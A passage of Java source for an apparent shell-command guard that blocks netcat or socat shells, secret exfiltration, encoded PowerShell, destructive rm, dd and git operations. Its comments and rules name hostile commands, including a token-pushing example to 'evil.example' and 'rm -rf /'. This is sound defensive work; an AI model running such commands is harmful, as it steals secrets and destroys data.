                return sub.equals("ls-files") || sub.equals("diff") || sub.equals("status");
            }
            case "grep", "rg", "egrep" -> {
                for (int j = k + 1; j < w.size(); j++) {
                    if (Paths.isOutsideWorktree(w.get(j).text())) {
                        return false;
                    }
                }
                return true;
            }
            default -> {
                return false;
            }
        }
    }

    private Decision.Block checkSink(String name, List<Word> w, int i, SimpleCommand origin) {
        if (name.equals("nc") || name.equals("ncat") || name.equals("netcat")) {
            for (int j = i + 1; j < w.size(); j++) {
                String a = w.get(j).text();
                if (a.equals("-e")
                        || a.equals("-c")
                        || a.startsWith("--exec")
                        || a.startsWith("--sh-exec")
                        || a.startsWith("--lua-exec")) {
                    return report(CommandRule.RAW_SOCKET.block(name + " " + a + " serves a shell", join(w, i)));
                }
            }
        }
        if (name.equals("socat")) {
            for (int j = i + 1; j < w.size(); j++) {
                String a = w.get(j).text().toLowerCase(Locale.ROOT);
                if (a.startsWith("exec:") || a.startsWith("system:") || a.contains(",exec:")) {
                    return report(CommandRule.RAW_SOCKET.block("socat runs a program on a socket", join(w, i)));
                }
            }
        }
        String why = Exfiltration.sendsSecret(name, w, i, origin == null ? new SimpleCommand() : origin);
        return why == null ? null : report(CommandRule.SECRET_EXFILTRATION.block(why, join(w, i)));
    }

    private Decision.Block checkPolicyDeny(String name, List<Word> w, int i) {
        List<CommandPolicy.DenyRule> denies = policy.denies();
        if (denies.isEmpty()) {
            return null;
        }
        String args = null;
        for (CommandPolicy.DenyRule d : denies) {
            if (!d.command().equals(name)) {
                continue;
            }
            if (args == null) {
                args = join(w, i + 1);
            }
            if (d.matches(name, args)) {
                Decision.Block b = report(new Decision.Block(d.id(), d.reason(), join(w, i)));
                if (b != null) {
                    return b;
                }
            }
        }
        return null;
    }

    private Decision.Block checkNested(String script, int depth) {
        return checkScript(script, depth + 1);
    }

    // ---------------------------------------------------------------- wrappers

    /**
     * If {@code name} runs another command, the index of that command's first word, {@link #NO_COMMAND} when the
     * wrapper runs nothing here, or {@link #NOT_A_WRAPPER}.
     */
    private static int wrapped(String name, List<Word> w, int i) {
        return switch (name) {
            case "command" -> {
                for (int j = i + 1; j < w.size(); j++) {
                    String a = w.get(j).text();
                    if (a.equals("--")) {
                        yield j + 1;
                    }
                    if (!a.startsWith("-") || a.length() == 1) {
                        yield j;
                    }
                    if (a.indexOf('v') > 0 || a.indexOf('V') > 0) {
                        yield NO_COMMAND; // `command -v rm` only looks the name up
                    }
                }
                yield NO_COMMAND;
            }
            case "builtin", "nohup", "unbuffer", "busybox", "catchsegv" -> skipOptions(w, i + 1, "", NO_LONG_OPTIONS);
            case "exec" -> skipOptions(w, i + 1, "a", NO_LONG_OPTIONS);
            case "sudo" -> skipOptions(w, i + 1, "ugpChDrtUTR", SUDO_LONG_OPTIONS);
            case "doas" -> skipOptions(w, i + 1, "uC", NO_LONG_OPTIONS);
            case "env" -> skipOptions(w, i + 1, "uCS", ENV_LONG_OPTIONS);
            case "nice" -> skipOptions(w, i + 1, "n", NICE_LONG_OPTIONS);
            case "ionice" -> skipOptions(w, i + 1, "cnp", IONICE_LONG_OPTIONS);
            case "setsid", "chrt", "taskset" -> skipOptions(w, i + 1, "", NO_LONG_OPTIONS);
            case "stdbuf" -> skipOptions(w, i + 1, "ioe", STDBUF_LONG_OPTIONS);
            case "time" -> skipOptions(w, i + 1, "fo", TIME_LONG_OPTIONS);
            case "timeout" -> {
                int j = skipOptions(w, i + 1, "sk", TIMEOUT_LONG_OPTIONS);
                yield j < 0 || j >= w.size() ? NO_COMMAND : j + 1; // skip the duration
            }
            case "xargs" -> {
                int j = skipOptions(w, i + 1, "ILnPdEsa", XARGS_LONG_OPTIONS);
                yield j;
            }
            default -> NOT_A_WRAPPER;
        };
    }

    /**
     * Skips the options of a wrapper and returns the index of the wrapped command (or {@link #NO_COMMAND}).
     * {@code argLetters} are short options that take a value; {@code longWithArg} long ones that take the next
     * word unless written {@code --opt=value}.
     */
    private static int skipOptions(List<Word> w, int j, String argLetters, Set<String> longWithArg) {
        while (j < w.size()) {
            String a = w.get(j).text();
            if (a.equals("--")) {
                j++;
                break;
            }
            if (a.length() < 2 || a.charAt(0) != '-') {
                break;
            }
            if (a.startsWith("--")) {
                j += (a.indexOf('=') < 0 && longWithArg.contains(a)) ? 2 : 1;
                continue;
            }
            boolean takesNext = false;
            for (int k = 1; k < a.length(); k++) {
                if (argLetters.indexOf(a.charAt(k)) >= 0) {
                    takesNext = k == a.length() - 1; // `-u root` vs `-uroot`
                    break;
                }
            }
            j += takesNext ? 2 : 1;
        }
        return j < w.size() ? j : NO_COMMAND;
    }

    /** The string of {@code env -S '...'} / {@code --split-string=...}, which env runs as a command line. */
    private static String envSplitString(List<Word> w, int i) {
        for (int j = i + 1; j < w.size(); j++) {
            String a = w.get(j).text();
            if (!a.startsWith("-") || a.equals("--")) {
                return null;
            }
            if (a.startsWith("--split-string=")) {
                return a.substring("--split-string=".length()) + " " + join(w, j + 1);
            }
            if (a.equals("-S") || a.equals("--split-string")) {
                return j + 1 < w.size() ? join(w, j + 1) : null;
            }
            if (a.startsWith("-S")) {
                return a.substring(2) + " " + join(w, j + 1);
            }
            if (a.equals("-u") || a.equals("-C") || a.equals("--unset") || a.equals("--chdir")) {
                j++;
            }
        }
        return null;
    }

    // ---------------------------------------------------------------- shells and interpreters

    private Decision.Block checkShell(String name, List<Word> w, int i, SimpleCommand origin, int depth) {
        boolean inline = false;
        for (int j = i + 1; j < w.size(); j++) {
            Word word = w.get(j);
            String a = word.text();
            Decision.Block fromSource =
                    checkSubstitutedSource(word.substituted(), "script given to " + name, join(w, i));
            if (fromSource != null) {
                return fromSource;
            }
            if (a.startsWith("-") && a.length() > 1 && !a.startsWith("--") && !inline) {
                if (a.indexOf('c') > 0) {
                    inline = true;
                } else if (a.equals("-o") || a.equals("-O")) {
                    j++;
                }
                continue;
            }
            if (a.startsWith("--") && !inline) {
                continue;
            }
            if (inline) {
                // the first operand after -c is the script; the rest become $0, $1…
                return checkNested(a, depth);
            }
            break; // a script file: its contents are not visible here
        }
        for (Redirect r : origin.redirects) {
            if (r.op().equals("<")) {
                Decision.Block fromSource =
                        checkSubstitutedSource(r.target().substituted(), "script fed to " + name, join(w, i));
                if (fromSource != null) {
                    return fromSource;
                }
            }
            if (r.body() != null && readsScriptFromStdin(name, w, i)) {
                // `bash <<EOF ... EOF` and `sh <<< "..."` run their input
                Decision.Block b = checkNested(r.body(), depth);
                if (b != null) {
                    return b;
                }
            }
        }
        return null;
    }

    /**
     * An interpreter: its inline code ({@code -c}, {@code -e}, {@code -r}, {@code --eval}, or a heredoc it reads)
     * is looked into by {@link InterpreterCode}; a downloaded or decoded program is refused.
     */
    private Decision.Block checkInterpreter(String family, List<Word> w, int i, SimpleCommand origin, int depth) {
        String code = null;
        for (int j = i + 1; j < w.size(); j++) {
            Word word = w.get(j);
            String a = word.text();
            Decision.Block fromSource =
                    checkSubstitutedSource(word.substituted(), "program given to " + family, join(w, i));
            if (fromSource != null) {
                return fromSource;
            }
            if (!a.startsWith("-") || a.length() < 2) {
                if (family.equals("deno") && a.equals("eval") && j + 1 < w.size()) {
                    code = w.get(j + 1).text();
                }
                break; // a script file or module: not visible here
            }
            if (family.equals("pwsh") || family.equals("powershell")) {
                String lower = a.toLowerCase(Locale.ROOT);
                if (lower.startsWith("-e") && !lower.startsWith("-ex")) {
                    return report(CommandRule.OBFUSCATED_EXEC.block("encoded PowerShell command", join(w, i)));
                }
                if (lower.equals("-c") || lower.startsWith("-command")) {
                    code = j + 1 < w.size() ? join(w, j + 1) : null;
                    break;
                }
                continue;
            }
            if (a.startsWith("--eval=") || a.startsWith("--print=")) {
                code = a.substring(a.indexOf('=') + 1);
                break;
            }
            if (isCodeFlag(family, a)) {
                if (j + 1 < w.size()) {
                    Word program = w.get(j + 1);
                    Decision.Block b =
                            checkSubstitutedSource(program.substituted(), "program given to " + family, join(w, i));
                    if (b != null) {
                        return b;
                    }
                    code = program.text();
                }
                break;
            }
            if (family.startsWith("python") && (a.equals("-m") || a.startsWith("-m"))) {
                break; // runs a module
            }
            if ((family.startsWith("python") && (a.equals("-W") || a.equals("-X")))
                    || (family.startsWith("node") && (a.equals("-r") || a.equals("--require")))) {
                j++;
            }
        }
        if (code == null) {
            for (Redirect r : origin.redirects) {
                if (r.op().equals("<")) {
                    Decision.Block fromSource =
                            checkSubstitutedSource(r.target().substituted(), "program fed to " + family, join(w, i));
                    if (fromSource != null) {
                        return fromSource;
                    }
                }
                if (r.body() != null && readsScriptFromStdin(family, w, i)) {
                    code = r.body();
                }
            }
        }
        return code == null ? null : checkCode(family, code, depth, join(w, i));
    }

    private static boolean isCodeFlag(String family, String a) {
        if (a.startsWith("--")) {
            return a.equals("--eval") || a.equals("--print") || a.equals("--command");
        }
        char last = a.charAt(a.length() - 1);
        return switch (family) {
            case "python", "python2", "python3", "pypy", "pypy3" -> last == 'c';
            case "perl" -> last == 'e' || last == 'E';
            case "ruby", "lua", "luajit", "osascript", "Rscript", "bun", "elixir", "julia" -> a.equals("-e");
            case "node", "nodejs" -> a.equals("-e") || a.equals("-p") || a.equals("-pe");
            case "php" -> a.equals("-r");
            case "erl" -> a.equals("-eval");
            default -> a.equals("-e") || a.equals("-c");
        };
    }

    /** Runs the findings of {@link InterpreterCode} through the guard's rules. */
    private Decision.Block checkCode(String family, String code, int depth, String command) {
        if (family == null) {
            return null;
        }
        boolean backticks = family.equals("perl") || family.equals("ruby") || family.equals("php");
        InterpreterCode.Findings f = InterpreterCode.analyse(code, backticks);
        if (f.clean()) {
            return null;
        }
        for (String shell : f.shellCommands()) {
            Decision.Block b = checkNested(shell, depth);
            if (b != null) {
                return b;
            }
        }
        if (f.dynamicShell() != null) {
            return report(CommandRule.OBFUSCATED_EXEC.block(
                    family + " runs a shell command built at run time: " + f.dynamicShell(), abbreviate(command)));
        }
        if (f.deletes() != null) {
            return report(CommandRule.RECURSIVE_DELETE.block(
                    family + " deletes outside the worktree: " + f.deletes(), abbreviate(command)));
        }
        if (f.exfiltrates() != null) {
            return report(CommandRule.SECRET_EXFILTRATION.block(
                    family + " code uses " + f.exfiltrates(), abbreviate(command)));
        }
        if (f.reverseShell() != null) {
            return report(
                    CommandRule.RAW_SOCKET.block(family + " code wires " + f.reverseShell(), abbreviate(command)));
        }
        return null;
    }

    /** {@code awk 'BEGIN { system("…") }'}: the program is the first operand unless {@code -f} names a file. */
    private Decision.Block checkAwk(List<Word> w, int i, int depth) {
        for (int j = i + 1; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.equals("-f") || a.startsWith("--file")) {
                return null;
            }
            if (a.equals("-F") || a.equals("-v")) {
                j++;
                continue;
            }
            if (a.startsWith("-") && a.length() > 1) {
                continue;
            }
            InterpreterCode.Findings f = InterpreterCode.analyse(a, false);
            for (String shell : f.shellCommands()) {
                Decision.Block b = checkNested(shell, depth);
                if (b != null) {
                    return b;
                }
            }
            if (f.dynamicShell() != null && !a.contains("getline")) {
                return report(
                        CommandRule.OBFUSCATED_EXEC.block("awk runs a shell command built at run time", join(w, i)));
            }
            return null;
        }
        return null;
    }

    private Decision.Block checkSourced(List<Word> w, int i, SimpleCommand origin, int depth) {
        for (int j = i + 1; j < w.size(); j++) {
            Decision.Block b = checkSubstitutedSource(w.get(j).substituted(), "script sourced", join(w, i));
            if (b != null) {
                return b;
            }
        }
        if (origin != null && readsScriptFromStdin(commandName(w.get(i)), w, i)) {
            for (Redirect r : origin.redirects) {
                Decision.Block b = checkSubstitutedSource(r.target().substituted(), "script sourced", join(w, i));
                if (b == null && r.body() != null) {
                    b = checkNested(r.body(), depth);
                }
                if (b != null) {
                    return b;
                }
            }
        }
        return null;
    }

    /** {@code alias x='rm -rf /'}: the alias runs its value wherever the name is used later. */
    private Decision.Block checkAlias(List<Word> w, int i, int depth) {
        for (int j = i + 1; j < w.size(); j++) {
            String a = w.get(j).text();
            int eq = a.indexOf('=');
            if (eq > 0) {
                Decision.Block b = checkNested(a.substring(eq + 1), depth);
                if (b != null) {
                    return b;
                }
            }
        }
        return null;
    }

    private Decision.Block checkEval(List<Word> w, int i, int depth) {
        for (int j = i + 1; j < w.size(); j++) {
            Decision.Block b = checkSubstitutedSource(w.get(j).substituted(), "script evaluated", join(w, i));
            if (b != null) {
                return b;
            }
        }
        return i + 1 < w.size() ? checkNested(join(w, i + 1), depth) : null;
    }

    private Decision.Block checkWatch(List<Word> w, int i, int depth) {
        int j = skipOptions(w, i + 1, "nq", WATCH_LONG_OPTIONS);
        return j < 0 ? null : checkNested(join(w, j), depth);
    }

    /** {@code ssh host 'cmd'} runs cmd in a shell on the remote host: the same rules apply there. */
    private Decision.Block checkSsh(List<Word> w, int i, int depth) {
        int host = skipOptions(w, i + 1, SSH_ARG_LETTERS, NO_LONG_OPTIONS);
        if (host < 0 || host + 1 >= w.size()) {
            return null;
        }
        return checkNested(join(w, host + 1), depth);
    }

    private static boolean hasDownloader(List<SimpleCommand> commands) {
        for (SimpleCommand c : commands) {
            int k = unwrap(c.words, 0);
            if (k < c.words.size() && DOWNLOADERS.contains(commandName(c.words.get(k)))) {
                return true;
            }
        }
        return false;
    }

    // ---------------------------------------------------------------- git

    private Decision.Block checkGit(List<Word> w, int i, int depth) {
        Map<String, String> aliases = Map.of();
        while (i < w.size()) {
            String a = w.get(i).text();
            if (a.equals("-c") && i + 1 < w.size()) {
                String kv = w.get(i + 1).text();
                int eq = kv.indexOf('=');
                Decision.Block viaConfig = checkCommandRunningConfig(kv, eq, depth);
                if (viaConfig != null) {
                    return viaConfig;
                }
                if (eq > 6 && kv.regionMatches(true, 0, "alias.", 0, 6)) {
                    if (aliases.isEmpty()) {
                        aliases = new HashMap<>();
                    }
                    aliases.put(kv.substring(6, eq), kv.substring(eq + 1));
                }
                i += 2;
            } else if (a.equals("-C")
                    || a.equals("--git-dir")
                    || a.equals("--work-tree")
                    || a.equals("--namespace")
                    || a.equals("--config-env")
                    || a.equals("--super-prefix")
                    || a.equals("--list-cmds")) {
                i += 2;
            } else if (a.startsWith("-")) {
                i++;
            } else {
                break;
            }
        }
        if (i >= w.size()) {
            return null;
        }
        String sub = w.get(i).text();
        String alias = aliases.get(sub);
        if (alias != null) {
            if (alias.startsWith("!")) {
                return checkNested(alias.substring(1) + " " + join(w, i + 1), depth);
            }
            return checkNested("git " + alias + " " + join(w, i + 1), depth);
        }
        GitCommand cmd = new GitCommand(w, i);
        return switch (sub) {
            case "push" -> {
                Decision.Block b = checkPushRemote(w, i + 1, cmd);
                yield b != null ? b : checkPush(w, i + 1, cmd);
            }
            case "reset" -> hasArg(w, i + 1, "--hard")
                    ? report(CommandRule.GIT_HISTORY_REWRITE.block(
                            "reset --hard discards commits and changes", cmd.text()))
                    : null;
            case "rebase" -> {
                String first = i + 1 < w.size() ? w.get(i + 1).text() : "";
                boolean leaving =
                        first.equals("--abort") || first.equals("--quit") || first.equals("--show-current-patch");
                yield leaving ? null : report(CommandRule.GIT_HISTORY_REWRITE.block("rebase", cmd.text()));
            }
            case "filter-branch", "filter-repo" -> report(CommandRule.GIT_HISTORY_REWRITE.block(sub, cmd.text()));
            case "update-ref" -> checkUpdateRef(w, i + 1, cmd);
            case "branch" -> checkBranch(w, i + 1, cmd);
            case "clean" -> checkClean(w, i + 1, cmd);
            case "reflog" -> {
                String action = i + 1 < w.size() ? w.get(i + 1).text() : "";
                yield action.equals("expire") || action.equals("delete")
                        ? report(CommandRule.GIT_HISTORY_REWRITE.block("reflog " + action, cmd.text()))
                        : null;
            }
            default -> null;
        };
    }

    /** The normalised git command line, built only when a rule fires. */
    private record GitCommand(List<Word> words, int subcommand) {
        String text() {
            return "git " + join(words, subcommand);
        }
    }

    /** Config keys whose value git runs as a shell command: {@code git -c core.sshCommand='...' push}. */
    private Decision.Block checkCommandRunningConfig(String kv, int eq, int depth) {
        if (eq <= 0) {
            return null;
        }
        String key = kv.substring(0, eq).toLowerCase(Locale.ROOT);
        String value = kv.substring(eq + 1);
        boolean runs = COMMAND_CONFIG_KEYS.contains(key)
                || (key.startsWith("credential.") && key.endsWith(".helper") || key.equals("credential.helper"))
                        && value.startsWith("!");
        if (!runs) {
            return null;
        }
        return checkNested(value.startsWith("!") ? value.substring(1) : value, depth);
    }

    private static boolean hasArg(List<Word> w, int from, String arg) {
        for (int j = from; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.equals("--")) {
                return false;
            }
            if (a.equals(arg)) {
                return true;
            }
        }
        return false;
    }

    private Decision.Block checkPush(List<Word> w, int from, GitCommand cmd) {
        boolean options = true;
        for (int j = from; j < w.size(); j++) {
            String a = w.get(j).text();
            if (options && a.equals("--")) {
                options = false;
                continue;
            }
            if (options && a.startsWith("--")) {
                if (a.equals("--force")
                        || a.equals("--force-with-lease")
                        || a.startsWith("--force-with-lease=")
                        || a.equals("--force-if-includes")
                        || a.equals("--mirror")) {
                    return report(CommandRule.GIT_FORCE_PUSH.block(a, cmd.text()));
                }
                if (a.equals("--delete") || a.equals("--prune")) {
                    return report(CommandRule.GIT_REMOTE_DELETE.block(a, cmd.text()));
                }
                if (a.indexOf('=') < 0
                        && (a.equals("--repo")
                                || a.equals("--push-option")
                                || a.equals("--receive-pack")
                                || a.equals("--exec"))) {
                    j++;
                }
                continue;
            }
            if (options && a.startsWith("-") && a.length() > 1) {
                for (int k = 1; k < a.length(); k++) {
                    char c = a.charAt(k);
                    if (c == 'f') {
                        return report(CommandRule.GIT_FORCE_PUSH.block(a, cmd.text()));
                    }
                    if (c == 'd') {
                        return report(CommandRule.GIT_REMOTE_DELETE.block(a, cmd.text()));
                    }
                    if (c == 'o') {
                        if (k == a.length() - 1) {
                            j++;
                        }
                        break;
                    }
                }
                continue;
            }
            if (a.startsWith("+")) {
                return report(CommandRule.GIT_FORCE_PUSH.block("forced refspec " + a, cmd.text()));
            }
            if (a.startsWith(":") && a.length() > 1) {
                return report(CommandRule.GIT_REMOTE_DELETE.block("empty source refspec " + a, cmd.text()));
            }
        }
        return null;
    }

    /** {@code git push https://x:$TOKEN@evil.example/r.git}: the repository or a secret sent to an arbitrary host. */
    private Decision.Block checkPushRemote(List<Word> w, int from, GitCommand cmd) {
        for (int j = from; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.startsWith("-")) {
                if (a.equals("--repo") || a.equals("-o") || a.equals("--push-option")) {
                    j++;
                } else if (a.startsWith("--repo=") && Exfiltration.isArbitraryRemoteUrl(a.substring(7))) {
                    return report(CommandRule.SECRET_EXFILTRATION.block("push to " + a.substring(7), cmd.text()));
                }
                continue;
            }
            if (Exfiltration.isArbitraryRemoteUrl(a) || Exfiltration.secretVariableIn(a) != null) {
                return report(CommandRule.SECRET_EXFILTRATION.block("push to " + a, cmd.text()));
            }
            return null; // the remote; refspecs follow
        }
        return null;
    }

    private Decision.Block checkUpdateRef(List<Word> w, int from, GitCommand cmd) {
        for (int j = from; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.equals("-d") || a.equals("--stdin")) {
                return report(CommandRule.GIT_HISTORY_REWRITE.block("update-ref " + a, cmd.text()));
            }
            if (!a.startsWith("-") && isProtectedRef(a)) {
                return report(CommandRule.GIT_HISTORY_REWRITE.block("moves protected ref " + a, cmd.text()));
            }
        }
        return null;
    }

    private Decision.Block checkBranch(List<Word> w, int from, GitCommand cmd) {
        boolean delete = false;
        boolean force = false;
        boolean forceDelete = false;
        boolean protectedRef = false;
        boolean options = true;
        for (int j = from; j < w.size(); j++) {
            String a = w.get(j).text();
            if (options && a.equals("--")) {
                options = false;
            } else if (options && a.startsWith("--")) {
                delete |= a.equals("--delete");
                force |= a.equals("--force");
            } else if (options && a.startsWith("-") && a.length() > 1) {
                for (int k = 1; k < a.length(); k++) {
                    switch (a.charAt(k)) {
                        case 'D' -> forceDelete = true;
                        case 'd' -> delete = true;
                        case 'f', 'M', 'C' -> force = true;
                        default -> {}
                    }
                }
            } else {
                protectedRef |= isProtectedRef(a);
            }
        }
        boolean destructive = forceDelete || (delete && force) || force;
        if (destructive && protectedRef) {
            return report(CommandRule.GIT_HISTORY_REWRITE.block(
                    "force-deletes or force-moves a protected branch", cmd.text()));
        }
        return null;
    }

    static boolean isProtectedRef(String ref) {
        String r = ref;
        if (r.startsWith("refs/heads/")) {
            r = r.substring("refs/heads/".length());
        } else if (r.startsWith("refs/remotes/")) {
            r = r.substring("refs/remotes/".length());
            int slash = r.indexOf('/');
            r = slash >= 0 ? r.substring(slash + 1) : r;
        } else if (r.startsWith("origin/") || r.startsWith("upstream/")) {
            r = r.substring(r.indexOf('/') + 1);
        }
        return PROTECTED_BRANCHES.contains(r) || r.startsWith("release/") || r.startsWith("release-");
    }

    private Decision.Block checkClean(List<Word> w, int from, GitCommand cmd) {
        boolean force = false;
        boolean dryRun = false;
        for (int j = from; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.equals("--")) {
                break;
            }
            if (a.startsWith("--")) {
                force |= a.equals("--force");
                dryRun |= a.equals("--dry-run");
            } else if (a.startsWith("-")) {
                force |= a.indexOf('f') > 0;
                dryRun |= a.indexOf('n') > 0;
            }
        }
        return force && !dryRun ? report(CommandRule.GIT_CLEAN.block(cmd.text())) : null;
    }

    // ---------------------------------------------------------------- deletion, permissions, disks

    /**
     * {@code rm} is blocked when it deletes recursively outside the worktree (absolute paths, {@code ~},
     * {@code $HOME}, {@code ..}, unresolved expansions), the worktree as a whole ({@code .}, {@code *}) or its
     * {@code .git}, or paths fed by {@code xargs}/{@code find -exec} from a search that is not project-local.
     * Project clean-ups such as {@code rm -rf node_modules dist} run.
     */
    private Decision.Block checkRm(List<Word> w, int i) {
        boolean recursive = false;
        boolean options = true;
        String wide = null;
        String outside = null;
        for (int j = i + 1; j < w.size(); j++) {
            String a = w.get(j).text();
            if (options && a.equals("--")) {
                options = false;
            } else if (options && a.startsWith("--")) {
                recursive |= a.equals("--recursive");
                if (a.equals("--no-preserve-root")) {
                    wide = "/";
                }
            } else if (options && a.startsWith("-") && a.length() > 1) {
                recursive |= a.indexOf('r') > 0 || a.indexOf('R') > 0;
            } else if (wide == null && Paths.isWide(a)) {
                wide = a;
            } else if (outside == null && (Paths.isOutsideWorktree(a) || Paths.isGitDir(a))) {
                outside = a;
            }
        }
        if (wide != null) {
            return report(CommandRule.RECURSIVE_DELETE.block("rm of " + wide, join(w, i)));
        }
        if (recursive && outside != null) {
            return report(
                    CommandRule.RECURSIVE_DELETE.block("recursive rm outside the worktree: " + outside, join(w, i)));
        }
        return null;
    }

    /** The search roots of {@code find} (the operands before the first expression); {@code .} when none. */
    private static int findExpressionStart(List<Word> w, int i) {
        int j = i + 1;
        while (j < w.size()) {
            String a = w.get(j).text();
            if (a.equals("-H") || a.equals("-L") || a.equals("-P") || a.startsWith("-O")) {
                j++;
            } else if (a.equals("-D")) {
                j += 2;
            } else {
                break;
            }
        }
        return j;
    }

    static boolean findRootsLocal(List<Word> w, int i) {
        for (int j = findExpressionStart(w, i); j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.startsWith("-") || a.equals("(") || a.equals("!") || a.equals(",")) {
                break;
            }
            if (Paths.isOutsideWorktree(a)) {
                return false;
            }
        }
        return true;
    }

    /** True when find lists only paths inside the worktree, and not the whole tree ({@code find .} alone). */
    static boolean findFeedsLocal(List<Word> w, int i) {
        if (!findRootsLocal(w, i)) {
            return false;
        }
        int expr = findExpressionStart(w, i);
        boolean wholeTree = true;
        for (int j = expr; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.startsWith("-") || a.equals("(") || a.equals("!")) {
                if (!FIND_NON_FILTERS.contains(a)) {
                    return true; // filtered
                }
                continue;
            }
            if (j == expr || !w.get(j - 1).text().startsWith("-")) {
                wholeTree &= Paths.isWide(a) || Paths.isGitDir(a);
            }
        }
        return !wholeTree;
    }

    private Decision.Block checkFind(List<Word> w, int i, SimpleCommand origin, int depth) {
        boolean local = findRootsLocal(w, i);
        boolean wholeTree = false;
        int expr = findExpressionStart(w, i);
        int roots = 0;
        for (int j = expr; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.startsWith("-") || a.equals("(") || a.equals("!")) {
                break;
            }
            roots++;
            wholeTree |= Paths.isWide(a) || Paths.isGitDir(a);
        }
        wholeTree |= roots == 0;
        boolean filtered = false;
        for (int j = i + 1; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.equals("-delete")) {
                if (!local) {
                    return report(CommandRule.RECURSIVE_DELETE.block("find -delete outside the worktree", join(w, i)));
                }
                if (!filtered && wholeTree) {
                    return report(CommandRule.RECURSIVE_DELETE.block("find -delete of the whole tree", join(w, i)));
                }
            }
            if (a.equals("-exec") || a.equals("-execdir") || a.equals("-ok") || a.equals("-okdir")) {
                int k = j + 1;
                while (k < w.size()
                        && !w.get(k).text().equals(";")
                        && !w.get(k).text().equals("+")) {
                    k++;
                }
                Feed feed = new Feed(local && (filtered || !wholeTree), "{}", false);
                Decision.Block b = checkInvocation(fedWords(w.subList(j + 1, k), 0, feed), 0, origin, depth, feed);
                if (b != null) {
                    return b;
                }
                j = k;
                continue;
            }
            if (j >= expr && a.startsWith("-") && !FIND_NON_FILTERS.contains(a)) {
                filtered = true;
            }
        }
        return null;
    }

    private static final Set<String> FIND_NON_FILTERS = Set.of(
            "-depth",
            "-d",
            "-print",
            "-print0",
            "-xdev",
            "-mount",
            "-follow",
            "-maxdepth",
            "-mindepth",
            "-delete",
            "-ignore_readdir_race",
            "-noleaf",
            "-daystart");

    private Decision.Block checkPermissions(String name, List<Word> w, int i) {
        boolean recursive = false;
        boolean reference = false;
        boolean operandSeen = false;
        String mode = null;
        String wide = null;
        boolean root = false;
        for (int j = i + 1; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.startsWith("--")) {
                recursive |= a.equals("--recursive");
                reference |= a.startsWith("--reference");
                continue;
            }
            if (a.startsWith("-") && a.length() > 1 && !(name.equals("chmod") && isSymbolicMode(a))) {
                recursive |= a.indexOf('R') > 0;
                continue;
            }
            if (!operandSeen && !reference) {
                operandSeen = true;
                mode = a;
                continue;
            }
            if (wide == null && Paths.isWide(a)) {
                wide = a;
            }
            root |= a.equals("/") || a.equals("/*");
        }
        if (recursive && wide != null) {
            return report(CommandRule.PERMISSION_WIDE.block(name + " -R on " + wide, join(w, i)));
        }
        if (recursive && name.equals("chmod") && mode != null && WIDE_MODES.contains(mode)) {
            return report(CommandRule.PERMISSION_WIDE.block("chmod -R " + mode, join(w, i)));
        }
        if (root) {
            return report(CommandRule.PERMISSION_WIDE.block(name + " on /", join(w, i)));
        }
        return null;
    }

    private static boolean isSymbolicMode(String a) {
        // `chmod -w file`, `chmod -x,u+r file`: a mode, not an option
        for (int k = 1; k < a.length(); k++) {
            char c = a.charAt(k);
            if ("rwxXstugo+-=,".indexOf(c) < 0) {
                return false;
            }
        }
        return a.indexOf('R') < 0;
    }

    private Decision.Block checkDd(List<Word> w, int i) {
        for (int j = i + 1; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.startsWith("of=")) {
                String target = a.substring(3);
                if (Paths.isBlockDevice(target) || Variables.hasExpansion(target)) {
                    return report(CommandRule.DISK_DESTROY.block("dd onto " + target, join(w, i)));
                }
                if (Paths.isSecret(target)) {
                    return report(CommandRule.SECRET_WRITE.block("dd into " + target, join(w, i)));
                }
            }
        }
        return null;
    }

    // ---------------------------------------------------------------- writes into secret locations

    private Decision.Block checkTee(List<Word> w, int i) {
        for (int j = i + 1; j < w.size(); j++) {
            String a = w.get(j).text();
            if (a.startsWith("-") && a.length() > 1) {
                continue;
            }
            if (Paths.isSecret(a)) {
                return report(CommandRule.SECRET_WRITE.block("tee into " + a, join(w, i)));
            }
            if (Paths.isBlockDevice(a)) {
                return report(CommandRule.DISK_DESTROY.block("tee onto " + a, join(w, i)));
            }
        }
        return null;
    }

    private Decision.Block checkCopyTarget(List<Word> w, int i) {
        String name = commandName(w.get(i));
        String targetDir = null;
        String lastSource = null;
        String last = null;
        boolean options = true;
        for (int j = i + 1; j < w.size(); j++) {
            String a = w.get(j).text();
            if (options && a.equals("--")) {
                options = false;
                continue;
            }
            if (options && a.startsWith("--target-directory=")) {
                targetDir = a.substring("--target-directory=".length());
                continue;
            }
            if (options && a.startsWith("-") && a.length() > 1) {
                if (a.equals("-t") || a.equals("--target-directory")) {
                    targetDir = j + 1 < w.size() ? w.get(++j).text() : null;
                } else if (!a.startsWith("--")
                        && name.equals("install")
                        && (a.equals("-m") || a.equals("-o") || a.equals("-g"))) {
                    j++;
                } else if (a.equals("-S") || a.equals("--suffix")) {
                    j++;
                }
                continue;
            }
            lastSource = last;
            last = a;
        }
        String dest = targetDir != null ? targetDir : (lastSource != null ? last : null);
        if (dest == null) {
            return null;
        }
        String source = targetDir != null ? last : lastSource;
        boolean secret = Paths.isSecret(dest);
        if (!secret && source != null && (dest.endsWith("/") || targetDir != null)) {
            int slash = source.lastIndexOf('/');
            secret = Paths.isSecret(dest + (dest.endsWith("/") ? "" : "/") + source.substring(slash + 1));
        }
        if (secret) {
            return report(CommandRule.SECRET_WRITE.block(name + " into " + dest, join(w, i)));
        }
        if (Paths.isBlockDevice(dest)) {
            return report(CommandRule.DISK_DESTROY.block(name + " onto " + dest, join(w, i)));
        }
        return null;
    }

    // ---------------------------------------------------------------- helpers

    static String join(List<Word> w, int from) {
        if (from >= w.size()) {
            return "";
        }
        StringBuilder sb = new StringBuilder();
        for (int j = from; j < w.size(); j++) {
            if (j > from) {
                sb.append(' ');
            }
            sb.append(w.get(j).text());
        }
        return sb.toString();
    }

    static String abbreviate(String s) {
        return s.length() <= 200 ? s : s.substring(0, 197) + "...";
    }
}
